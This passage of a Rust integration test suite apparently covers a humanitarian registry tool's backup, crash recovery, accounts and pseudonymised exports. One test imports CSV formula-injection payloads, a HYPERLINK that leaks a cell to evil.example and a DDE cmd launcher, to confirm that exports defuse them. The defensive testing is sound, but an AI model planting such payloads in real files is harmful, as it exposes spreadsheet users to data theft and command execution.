        acknowledged.clone(),
    );
    while acknowledged.lock().unwrap().len() < 3 {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let before: Vec<usize> = acknowledged.lock().unwrap().clone();
    let mut args = vec!["backup", "--db", db, "--out", backup.to_str().unwrap()];
    args.extend(key_args.iter().map(String::as_str));
    args.extend(["--backup-key-file", backup_key.as_str()]);
    let o = peywand(&args);
    assert!(o.status.success(), "{}", text(&o));
    while acknowledged.lock().unwrap().len() < before.len() + 2 {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    stop.store(true, Ordering::SeqCst);
    writer.join().unwrap();

    let restored_key = secret("restored.key");
    let mut restored_args = vec!["--db", restored];
    if !restored.starts_with("postgres") {
        restored_args.extend(["--key-file", restored_key.as_str()]);
    }
    let mut args = vec!["restore"];
    args.extend(&restored_args);
    args.extend([
        "--from",
        backup.to_str().unwrap(),
        "--backup-key-file",
        backup_key.as_str(),
    ]);
    let o = peywand(&args);
    assert!(o.status.success(), "{}", text(&o));
    let mut args = vec!["audit", "verify"];
    args.extend(&restored_args);
    let o = peywand(&args);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("intact"), "{}", text(&o));
    let out = dir.path().join("restored.csv");
    let mut args = vec!["export"];
    args.extend(&restored_args);
    args.extend([
        "--out",
        out.to_str().unwrap(),
        "--reason",
        "check a restore",
    ]);
    let o = peywand(&args);
    assert!(o.status.success(), "{}", text(&o));
    let exported = std::fs::read_to_string(&out).unwrap();
    for batch in &before {
        assert!(
            exported.contains(&format!("b{batch}-r19,")),
            "batch {batch} was acknowledged before the backup began"
        );
    }
    let total = acknowledged.lock().unwrap().len();
    for batch in 0..total {
        let held = (0..20)
            .filter(|m| exported.contains(&format!("b{batch}-r{m},")))
            .count();
        assert!(
            held == 0 || held == 20,
            "batch {batch} is half there: {held} of 20"
        );
    }
    // The wrong key opens nothing.
    let wrong = secret("wrong.key");
    let o = peywand(&[
        "restore",
        "--db",
        dir.path().join("other.db").to_str().unwrap(),
        "--key-file",
        restored_key.as_str(),
        "--from",
        backup.to_str().unwrap(),
        "--backup-key-file",
        wrong.as_str(),
    ]);
    assert!(!o.status.success());
    assert!(
        text(&o).contains("cannot be opened with this backup key"),
        "{}",
        text(&o)
    );
}

#[test]
fn a_registry_file_is_backed_up_while_in_use_and_restored() {
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("site.key");
    std::fs::write(&key, "the site's own key, kept on the laptop\n").unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
    }
    let key_args = vec!["--key-file".to_string(), key.to_str().unwrap().to_string()];
    backup_during_a_stream_restores_whole(
        dir.path().join("site.db").to_str().unwrap(),
        dir.path().join("restored.db").to_str().unwrap(),
        &key_args,
    );
}

#[test]
fn a_hub_is_backed_up_while_in_use_and_restored() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let Some(hub) = runtime.block_on(peywand_store_postgres::testing::TestDatabase::create())
    else {
        return;
    };
    let Some(empty) = runtime.block_on(peywand_store_postgres::testing::TestDatabase::create())
    else {
        return;
    };
    // The hub exists before the stream starts: `import` creates a file, not a database.
    runtime.block_on(async {
        use peywand_store::Lifecycle;
        hub.open().await.close().await
    });
    backup_during_a_stream_restores_whole(&hub.url, &empty.url, &[]);
    runtime.block_on(async {
        hub.drop_database().await;
        empty.drop_database().await;
    });
}

/// A user with a bearer token for programs, made with the command line; returns the token.
fn user_and_token(db_args: &[&str], username: &str, role: &str, site: &str) -> String {
    use std::io::Write;
    let mut args = vec!["user", "add"];
    args.extend(db_args);
    args.extend(["--username", username, "--role", role, "--site", site]);
    let mut child = Command::new(env!("CARGO_BIN_EXE_peywand"))
        .args(&args)
        .env("PEYWAND_LOG", "error")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    writeln!(child.stdin.take().unwrap(), "a passphrase for the desk").unwrap();
    let o = child.wait_with_output().unwrap();
    assert!(o.status.success(), "{}", text(&o));
    let mut args = vec!["token", "create"];
    args.extend(db_args);
    args.extend(["--username", username]);
    let o = peywand(&args);
    assert!(o.status.success(), "{}", text(&o));
    String::from_utf8_lossy(&o.stdout).trim().to_string()
}

/// Saves a household of two through the API, as a desk does; returns the record ids of its
/// members when the server acknowledged it (201), nothing otherwise.
fn save_household(addr: &str, token: &str, n: usize) -> Option<Vec<String>> {
    use std::io::{Read, Write};
    let body = format!(
        r#"{{"site_code":"torkham","members":[{{"raw":{{"given_name":"Nabi {n}","father_name":"Karim","sex":"M","age":"40"}}}},{{"raw":{{"given_name":"Gul {n}","father_name":"Karim","sex":"F","age":"12"}}}}]}}"#
    );
    let mut stream = std::net::TcpStream::connect(addr).ok()?;
    stream
        .set_read_timeout(Some(std::time::Duration::from_secs(10)))
        .ok()?;
    write!(
        stream,
        "POST /api/v1/households HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Bearer {token}\r\n\
         Content-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
    .ok()?;
    let mut answer = String::new();
    stream.read_to_string(&mut answer).ok()?;
    if !answer.starts_with("HTTP/1.1 201") {
        return None;
    }
    let json: serde_json::Value = serde_json::from_str(answer.split("\r\n\r\n").nth(1)?).ok()?;
    Some(
        json["members"]
            .as_array()?
            .iter()
            .filter_map(|m| m["record_id"].as_str().map(str::to_string))
            .collect(),
    )
}

/// A server killed outright (SIGKILL, a power cut) while desks save households: every
/// household it acknowledged is there afterwards, and the registry opens cleanly.
fn a_killed_server_loses_nothing_it_acknowledged(db_args: &[&str]) {
    use std::io::BufRead;
    let token = user_and_token(db_args, "amina", "registrar", "torkham");
    let mut args = vec!["serve"];
    args.extend(db_args);
    args.extend(["--addr", "127.0.0.1:0"]);
    let mut server = Command::new(env!("CARGO_BIN_EXE_peywand"))
        .args(&args)
        .env("PEYWAND_LOG", "error")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut first = String::new();
    std::io::BufReader::new(server.stdout.take().unwrap())
        .read_line(&mut first)
        .unwrap();
    let addr = first
        .split("http://")
        .nth(1)
        .and_then(|a| a.split('/').next())
        .unwrap_or_else(|| panic!("the server did not say where it listens: {first}"))
        .to_string();
    // Desks keep saving from two threads; the server dies under them.
    let acknowledged = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let desks: Vec<_> = (0..2)
        .map(|desk| {
            let (addr, token, acknowledged) = (addr.clone(), token.clone(), acknowledged.clone());
            std::thread::spawn(move || {
                for n in 0..10_000 {
                    match save_household(&addr, &token, desk * 100_000 + n) {
                        Some(ids) => acknowledged.lock().unwrap().extend(ids),
                        None => return,
                    }
                }
            })
        })
        .collect();
    while acknowledged.lock().unwrap().len() < 60 {
        assert!(
            desks.iter().any(|d| !d.is_finished()),
            "the desks stopped before the server was killed"
        );
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    server.kill().unwrap(); // SIGKILL
    server.wait().unwrap();
    for desk in desks {
        desk.join().unwrap();
    }
    let acknowledged = acknowledged.lock().unwrap().clone();

    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("after.csv");
    let mut args = vec!["export"];
    args.extend(db_args);
    args.extend([
        "--out",
        out.to_str().unwrap(),
        "--reason",
        "check after a crash",
    ]);
    let o = peywand(&args);
    assert!(o.status.success(), "the registry opens again: {}", text(&o));
    let exported = std::fs::read_to_string(&out).unwrap();
    let lost: Vec<&String> = acknowledged
        .iter()
        .filter(|id| !exported.contains(&format!("\n{id},")))
        .collect();
    assert!(lost.is_empty(), "acknowledged but lost: {lost:?}");
    let mut args = vec!["audit", "verify"];
    args.extend(db_args);
    let o = peywand(&args);
    assert!(o.status.success(), "{}", text(&o));
}

#[test]
fn a_site_laptop_killed_mid_registration_loses_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("site.db");
    a_killed_server_loses_nothing_it_acknowledged(&["--db", db.to_str().unwrap()]);
}

#[test]
fn a_hub_server_killed_mid_registration_loses_nothing() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let Some(hub) = runtime.block_on(peywand_store_postgres::testing::TestDatabase::create())
    else {
        return;
    };
    a_killed_server_loses_nothing_it_acknowledged(&["--db", hub.url.as_str()]);
    runtime.block_on(hub.drop_database());
}

#[cfg(unix)]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

#[test]
fn exported_cells_never_run_as_formulas_and_exports_are_the_owners_alone() {
    let dir = tempfile::tempdir().unwrap();
    let (db, csv) = (dir.path().join("r.db"), dir.path().join("in.csv"));
    let typed = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "-1+2",
    ];
    let mut input = String::from("record_id,given_name,father_name,family_name,document_number\n");
    input.push_str(&format!(
        "r-1,\"{}\",\"{}\",\"{}\",\"{}\"\n",
        typed[0].replace('"', "\"\""),
        typed[1],
        typed[2],
        typed[3]
    ));
    std::fs::write(&csv, input).unwrap();
    let o = peywand(&[
        "import",
        "--db",
        db.to_str().unwrap(),
        csv.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", text(&o));
    let out_path = dir.path().join("out.csv");
    // A file left readable by everyone before is made the owner's as the export fills it.
    std::fs::write(&out_path, "old").unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&out_path, std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    let out = export(&db, &out_path);
    let mut rows = csv::Reader::from_reader(out.as_bytes());
    let header = rows.headers().unwrap().clone();
    let row = rows.records().next().unwrap().unwrap();
    for (column, value) in [
        ("given_name", typed[0]),
        ("father_name", typed[1]),
        ("family_name", typed[2]),
        ("document_number", typed[3]),
    ] {
        let at = header.iter().position(|h| h == column).unwrap();
        // Led by an apostrophe, a spreadsheet shows the value as text.
        assert_eq!(row.get(at).unwrap(), format!("'{value}"), "{column}");
    }
    #[cfg(unix)]
    assert_eq!(mode(&out_path), 0o600, "the export is readable by others");
    // Read back, every value is as typed: exported again, the file is the same.
    let db2 = dir.path().join("r2.db");
    let o = peywand(&[
        "import",
        "--db",
        db2.to_str().unwrap(),
        out_path.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(export(&db2, &dir.path().join("again.csv")), out);
}

#[cfg(unix)]
#[test]
fn the_demo_keeps_its_data_and_accounts_from_other_users_of_the_machine() {
    use std::io::BufRead;
    let dir = tempfile::tempdir().unwrap();
    let demo = dir.path().join("demo-data");
    let mut server = Command::new(env!("CARGO_BIN_EXE_peywand"))
        .args(["demo", "--dir", demo.to_str().unwrap(), "--people", "200"])
        .args(["--addr", "127.0.0.1:0"])
        .env("PEYWAND_LOG", "error")
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let stdout = std::io::BufReader::new(server.stdout.take().unwrap());
    let running = stdout
        .lines()
        .map_while(Result::ok)
        .any(|line| line.contains("Peywand is running"));
    server.kill().unwrap();
    server.wait().unwrap();
    assert!(running, "the demo did not start");
    assert_eq!(mode(&demo), 0o700, "the demo folder is open to others");
    assert_eq!(mode(&demo.join("data")), 0o700);
    for file in [
        "data/registry.csv",
        "data/truth.csv",
        "credentials.txt",
        "demo.key",
    ] {
        assert_eq!(
            mode(&demo.join(file)),
            0o600,
            "{file} is readable by others"
        );
    }
}

#[test]
fn a_user_cannot_be_given_a_site_that_does_not_exist() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("site.db");
    let mut child = Command::new(env!("CARGO_BIN_EXE_peywand"))
        .args([
            "user",
            "add",
            "--db",
            db.to_str().unwrap(),
            "--username",
            "amina",
            "--role",
            "registrar",
            "--site",
            "torkam",
        ])
        .env("PEYWAND_LOG", "error")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    writeln!(child.stdin.take().unwrap(), "a long passphrase").unwrap();
    let o = child.wait_with_output().unwrap();
    assert!(!o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("no site torkam") && text(&o).contains("peywand sites"),
        "{}",
        text(&o)
    );
    let o = peywand(&["sites"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("torkham") && text(&o).contains("spin-boldak"),
        "{}",
        text(&o)
    );
}

/// An administrator's whole account lifecycle from the command line: list, disable, enable,
/// reset a password, end sessions and tokens, renew a token; each change audited.
#[test]
fn accounts_are_listed_disabled_reset_and_cut_off_from_the_command_line() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("site.db");
    let dbs = db.to_str().unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_peywand"))
        .args([
            "user",
            "add",
            "--db",
            dbs,
            "--username",
            "amina",
            "--role",
            "registrar",
            "--site",
            "torkham",
        ])
        .env("PEYWAND_LOG", "error")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    writeln!(child.stdin.take().unwrap(), "a long passphrase").unwrap();
    assert!(child.wait_with_output().unwrap().status.success());
    let ok = |args: &[&str]| {
        let o = peywand(args);
        assert!(o.status.success(), "{args:?}: {}", text(&o));
        text(&o)
    };
    let listing = ok(&["user", "list", "--db", dbs]);
    let row = listing.lines().find(|l| l.starts_with("amina")).unwrap();
    assert!(
        row.contains("registrar") && row.contains("torkham") && row.contains("active"),
        "{listing}"
    );
    assert!(row.contains("never"), "no sign-in yet: {listing}");

    ok(&["user", "disable", "--db", dbs, "amina"]);
    assert!(ok(&["user", "list", "--db", dbs]).contains("disabled"));
    ok(&["user", "enable", "--db", dbs, "amina"]);
    let reset = ok(&["user", "reset-password", "--db", dbs, "amina"]);
    assert!(reset.contains("temporary password"), "{reset}");
    assert!(ok(&["user", "list", "--db", dbs]).contains("must change password"));
    assert!(
        !peywand(&["user", "disable", "--db", dbs, "nobody"])
            .status
            .success()
    );

    let o = peywand(&[
        "token",
        "create",
        "--db",
        dbs,
        "--username",
        "amina",
        "--days",
        "30",
    ]);
    assert!(o.status.success(), "{}", text(&o));
    let tokens = ok(&["token", "list", "--db", dbs]);
    let in_30_days = (chrono::Utc::now() + chrono::Duration::days(30))
        .format("%Y-%m-%d")
        .to_string();
    assert!(tokens.contains(&in_30_days), "{tokens}");
    let id = tokens
        .lines()
        .nth(1)
        .unwrap()
        .split_whitespace()
        .next()
        .unwrap()
        .to_string();
    ok(&["token", "renew", "--db", dbs, &id]);
    let in_90_days = (chrono::Utc::now() + chrono::Duration::days(90))
        .format("%Y-%m-%d")
        .to_string();
    assert!(ok(&["token", "list", "--db", dbs]).contains(&in_90_days));
    let ended = ok(&["user", "end-sessions", "--db", dbs, "amina"]);
    assert!(
        ended.contains("0 sessions") && ended.contains("1 token"),
        "{ended}"
    );
    assert!(
        !peywand(&["token", "renew", "--db", dbs, &id])
            .status
            .success(),
        "revoked"
    );

    let o = peywand(&["audit", "verify", "--db", dbs]);
    // user_add, user_disable, user_enable, user_reset_password, token_create, token_renew,
    // user_end_sessions
    assert!(text(&o).contains("intact: 7 entries"), "{}", text(&o));
}

/// A partner reconciles its list against Peywand's distributions: the household given to is
/// the same pseudonym as in the registrations shared with that partner, the member who took the
/// aid is their record's pseudonym, and nothing an officer typed leaves.
#[tokio::test]
async fn distributions_shared_with_a_partner_join_the_registrations_by_pseudonym() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("site.db");
    let dbs = db.to_str().unwrap().to_string();
    let csv_in = dir.path().join("in.csv");
    std::fs::write(&csv_in, GOOD).unwrap();
    assert!(
        peywand(&["import", "--db", &dbs, csv_in.to_str().unwrap()])
            .status
            .success()
    );
    {
        use peywand_store::prelude::*;
        let store = peywand_store_sqlite::SqliteStore::open(&dbs).await.unwrap();
        let who = peywand_store::Actor {
            username: "nadia".into(),
            at: chrono::Utc::now(),
        };
        store
            .create_programme(
                &peywand_store::ProgrammeDraft {
                    name: "Winter kits".into(),
                    kind: peywand_store::AssistanceKind::WinterKit,
                    amount: None,
                    currency: None,
                    entitlement: peywand_store::Entitlement::OncePerHousehold,
                    season_from: "2025-11-01".parse().unwrap(),
                    season_to: "2099-02-28".parse().unwrap(),
                    criteria: peywand_store::Criteria::default(),
                },
                &who,
            )
            .await
            .unwrap();
        let r1 = store
            .person_by_record(&peywand_domain::RecordId::parse("r-1").unwrap())
            .await
            .unwrap()
            .unwrap();
        store
            .record_distribution(
                &peywand_store::DistributionDraft {
                    household: r1.household_id,
                    kind: peywand_store::AssistanceKind::WinterKit,
                    quantity: 1,
                    given_on: chrono::Utc::now().date_naive(),
                    received_by: "r-2".into(),
                    site_code: Some("torkham".into()),
                    override_reason: Some("kit lost in the river crossing".into()),
                },
                &who,
            )
            .await
            .unwrap();
        store.close().await;
    }
    let secret = dir.path().join("a.secret");
    std::fs::write(&secret, "partnership with organisation A").unwrap();
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
    let run = |args: &[&str], out: &str| {
        let out = dir.path().join(out);
        let mut all = args.to_vec();
        all.extend([
            "--db",
            &dbs,
            "--out",
            out.to_str().unwrap(),
            "--reason",
            "monthly reconciliation",
            "--pseudonymise-with",
            secret.to_str().unwrap(),
        ]);
        let o = peywand(&all);
        assert!(o.status.success(), "{}", text(&o));
        std::fs::read_to_string(out).unwrap()
    };
    let rows = |text: &str| -> Vec<Vec<String>> {
        csv::Reader::from_reader(text.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect()
    };
    let registrations = rows(&run(&["export"], "registrations.csv"));
    let shared = run(&["export-distributions"], "distributions.csv");
    assert!(
        !shared.contains("h-1") && !shared.contains("r-2") && !shared.contains("nadia"),
        "{shared}"
    );
    assert!(
        !shared.contains("river"),
        "an override's reason stays: {shared}"
    );
    let given = rows(&shared);
    // Under the header, the HXL hashtag row, then the one distribution.
    assert!(given[0][0].starts_with('#'), "{shared}");
    let d = &given[1];
    let r2 = registrations
        .iter()
        .find(|r| r[0] != registrations[0][0])
        .unwrap();
    assert_eq!(
        d[2], registrations[0][1],
        "the household's pseudonym, as in the registrations"
    );
    assert_eq!(d[7], r2[0], "who took it: the member's pseudonym");
    assert_eq!(
        (d[3].as_str(), d[4].as_str(), d[8].as_str()),
        ("winter_kit", "1", "yes")
    );
}
